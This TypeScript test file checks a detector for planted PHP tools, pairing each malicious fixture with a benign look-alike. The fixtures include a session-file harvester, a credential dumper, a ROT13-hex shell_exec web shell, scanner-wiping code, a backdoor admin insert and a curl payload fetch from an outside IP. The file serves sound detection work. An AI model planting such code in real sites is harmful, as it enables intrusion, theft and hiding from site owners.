/**
 * PHP mechanisms for planted tools and kit modules (issue #15, PHP recall): an array read with
 * the keys of the page's own form controls is that form's input, paged row dumps detached from
 * the client, session-file harvesting, fixed probe commands, code kept in a media folder,
 * scripts that stay inactive for administrators, security-plugin tampering and ROT13-scrambled
 * hex payloads. Every fixture is written for this test and is inert text; each positive has a
 * benign look-alike with its exact outcome.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';

const verdict = (name: string, code: string): [string | undefined, string[]] => {
  const f = findingOf(name, code);
  return [f?.verdict, reasons(f)];
};

test('php kit module: an array read with the keys of its own form controls is the request', () => {
  const code = `<?php
$p = array_map('rawurldecode', get_post());
$GLOBALS['mods']['files']['html'] = "<input type='text' id='fmFrom'><input type='text' id='fmTo'><input id='fmDel'>";
if (isset($p['fmFrom']) && isset($p['fmTo'])) { rename(trim($p['fmFrom']), trim($p['fmTo'])); }
elseif (isset($p['fmDel'])) { unlink(trim($p['fmDel'])); }
`;
  assert.deepEqual(verdict('mod.php', code), ['suspicious', ['request chooses file-system paths the page passes to rename, unlink (file manager)']]);
  // the page fills the array itself: its own settings, not what the form posted
  const ok = code.replace("array_map('rawurldecode', get_post())", "array('fmFrom' => 'a.txt', 'fmTo' => 'b.txt', 'fmDel' => 'c.txt')");
  assert.deepEqual(verdict('mod2.php', ok), [undefined, []]);
});

test('php paged row dump that keeps running after the client hangs up', () => {
  const code = `<?php
ignore_user_abort(); set_time_limit(0);
$conn = mysql_connect('127.0.0.1', 'root', 'toor'); mysql_select_db('shop', $conn);
$from = intval($_GET['from']); $n = intval($_GET['n']);
$res = mysql_query("select email,pass from users limit " . $from . "," . $n);
while ($row = mysql_fetch_array($res)) { echo $row['email'] . ':' . $row['pass'] . "\\n"; }
`;
  assert.deepEqual(verdict('dump.php', code), ['suspicious', ['prints database rows in request-chosen ranges and keeps running after the client disconnects (database dumper)']]);
  // an application page listing rows inside its framework (it includes its bootstrap)
  const ok = code.replace('<?php\n', "<?php\nrequire_once 'bootstrap.php';\n");
  assert.deepEqual(verdict('list.php', ok), [undefined, []]);
});

test("php page that reads every visitor's session file", () => {
  const code = `<?php
$d = opendir('/tmp'); $all = '';
while (($f = readdir($d)) !== false) { if (strpos($f, 'sess_') === 0) { $all .= file_get_contents('/tmp/' . $f); } }
echo htmlspecialchars($all);
`;
  assert.deepEqual(verdict('sess.php', code), ['suspicious', ["reads every visitor's session file from the session folder (session harvesting)"]]);
  // a cache sweeper over its own files in /tmp
  const ok = code.replace("'sess_'", "'mycache_'");
  assert.deepEqual(verdict('sweep.php', ok), [undefined, []]);
});

test('php page that runs one fixed reconnaissance command', () => {
  const code = `<?php\n$c = "id\\nuname -a\\n";\n$h = popen($c, 'r');\necho fread($h, 4096);\n`;
  assert.deepEqual(verdict('probe.php', code), [
    'suspicious',
    [
      'runs a fixed reconnaissance or process-killing command (id; uname -a;) and shows the result (probe page)',
      'system reconnaissance / shell user-interface features',
      'runs OS commands (popen)',
    ],
  ]);
  // a fixed command that does work (an image conversion)
  const ok = `<?php\n$c = "convert in.png out.jpg";\n$h = popen($c, 'r');\necho fread($h, 4096);\n`;
  assert.deepEqual(verdict('convert.php', ok), [undefined, []]);
});

test('php code loaded from an images folder', () => {
  const code = `<?php\nrequire_once($_SERVER['DOCUMENT_ROOT'] . '/theme/images/cache/' . KEY . '/cache.php');\necho links();\n`;
  assert.deepEqual(verdict('links.php', code), ['suspicious', ['loads PHP code kept inside an images or uploads folder (hidden module)']]);
  const ok = `<?php\nrequire_once($_SERVER['DOCUMENT_ROOT'] . '/theme/lib/cache/' . KEY . '/cache.php');\necho links();\n`;
  assert.deepEqual(verdict('links2.php', ok), [undefined, []]);
});

test('php script that marks administrators with its own cookie and stays inactive for them', () => {
  const code = `<?php
if (isset($_COOKIE['qx_seen'])) { return true; }
foreach ($_COOKIE as $k => $v) { if (stristr($k, 'wordpress_logged_in_')) { setcookie('qx_seen', '1', time() + 86400 * 90, '/'); return true; } }
echo file_get_contents('http://203.0.113.9/feed.php');
`;
  assert.deepEqual(verdict('hide.php', code), ['suspicious', ['marks administrators with a cookie of its own and stays inactive for them (hides from the site owner)']]);
  // a page cache that skips logged-in users but marks nobody
  const ok = code.replace("setcookie('qx_seen', '1', time() + 86400 * 90, '/'); ", '');
  assert.deepEqual(verdict('cache.php', ok), [undefined, []]);
});

test('php script that wipes the findings of security plugins', () => {
  const code = `<?php
function quiet() {
  mysql_query("truncate " . PFX . "wfIssues;");
  mysql_query("update " . PFX . "wfConfig set val = '*.php' where name = 'scan_exclude';");
}
add_action('wp_head', 'quiet');
`;
  assert.deepEqual(verdict('quiet.php', code), ['suspicious', ["wipes or rewrites the findings and settings of security plugins (2 places): blinds the site's scanners"]]);
  // reading the plugin's findings for a report
  const ok = code
    .replace('truncate " . PFX . "wfIssues;', 'select count(*) from " . PFX . "wfIssues;')
    .replace(/update " \. PFX \. "wfConfig set val = '\*\.php'/, 'select val from " . PFX . "wfConfig');
  assert.deepEqual(verdict('report.php', ok), [undefined, []]);
});

test('php payload stored as ROT13-scrambled hex digits', () => {
  const inner = '<?php function run($c) { return shell_exec($c); } echo run($_POST["c"]); ?>';
  const rot = (s: string) => s.replace(/[a-z]/g, (ch) => String.fromCharCode(((ch.charCodeAt(0) - 97 + 13) % 26) + 97));
  const code = `<?php\n$s = "${rot(Buffer.from(inner).toString('hex'))}";\n`;
  const [v, why] = verdict('rh.php', code);
  assert.equal(v, 'malicious');
  assert.ok(why.includes('code stored as ROT13-scrambled hex digits'), why.join('; '));
  // plain digits (a checksum table) are not hex after ROT13
  const ok = `<?php\n$s = "${'0123456789'.repeat(20)}";\n`;
  assert.deepEqual(verdict('digits.php', ok), [undefined, []]);
});

test('php mailbox prober: RCPT TO against the MX of request-listed addresses', () => {
  const code = `<?php
foreach (explode("\\n", $_POST['list']) as $addr) {
  $domain = substr(strrchr(trim($addr), '@'), 1);
  if (!getmxrr($domain, $hosts)) continue;
  $s = fsockopen($hosts[0], 25);
  fwrite($s, "HELO probe.example\\r\\nMAIL FROM: <a@probe.example>\\r\\nRCPT TO: <" . trim($addr) . ">\\r\\n");
  echo $addr . ': ' . fgets($s) . "\\n";
}
`;
  assert.deepEqual(verdict('mx.php', code), ['suspicious', ["asks recipients' mail servers (RCPT TO on port 25) whether request-listed addresses exist (mailbox prober)"]]);
  // a contact form handing one message to the site's configured relay
  const ok = `<?php
$s = fsockopen('mail.example.org', 25);
fwrite($s, "HELO www.example.org\\r\\nMAIL FROM: <web@example.org>\\r\\nRCPT TO: <office@example.org>\\r\\nDATA\\r\\n" . strip_tags($_POST['msg']) . "\\r\\n.\\r\\n");
echo 'sent';
`;
  assert.deepEqual(verdict('contact.php', ok), [undefined, []]);
});

test("php doorway client: pages from a bare-IP server that is told this site's host name", () => {
  const code = `<?php
$me = 'http://' . $_SERVER['SERVER_NAME'] . $_SERVER['PHP_SELF'];
echo file_get_contents('http://198.51.100.23/gate.php?site=' . urlencode($me));
`;
  assert.deepEqual(verdict('door.php', code), [
    'suspicious',
    ["prints pages fetched from a server named by its IP address, reporting this site's host name to it (doorway / link-injection client)"],
  ]);
  // a feed widget fetching from a named service
  const ok = code.replace('198.51.100.23', 'feeds.example.com');
  assert.deepEqual(verdict('feed.php', ok), [undefined, []]);
});

test('php timestomping: a changed file gets the timestamp an existing file had', () => {
  const code = `<?php
$t = filemtime('index.php');
shell_exec('curl -s -o index.php http://198.51.100.7/i.txt');
touch('index.php', $t);
`;
  assert.deepEqual(verdict('stomp.php', code), [
    'suspicious',
    ['gives a file it changed the timestamp of an existing file (timestomping hides the change)', 'runs OS commands (shell_exec)'],
  ]);
  // an unpacker restoring the time its archive stored for the entry
  const ok = `<?php
foreach ($entries as $e) { file_put_contents($e['name'], $e['data']); touch($e['name'], $e['mtime']); }
`;
  assert.deepEqual(verdict('unzip.php', ok), [undefined, []]);
});

test('php backdoor account: an administrator row with a password fixed in the file', () => {
  const code = `<?php
$user = 'svc'; $password = 'hunter22';
mysql_query("INSERT INTO shop_users (login, pass, role) VALUES ('$user', '" . md5($password) . "', 'admin')");
echo 'done';
`;
  assert.deepEqual(verdict('acct.php', code), [
    'suspicious',
    ['inserts an administrator account with a password fixed in the file straight into the user table (backdoor account)'],
  ]);
  // an installer hashing the password its form posted
  const ok = code.replace("$password = 'hunter22';", "$password = (string) filter_var($argv[1] ?? '');");
  assert.deepEqual(verdict('install.php', ok), [undefined, []]);
});
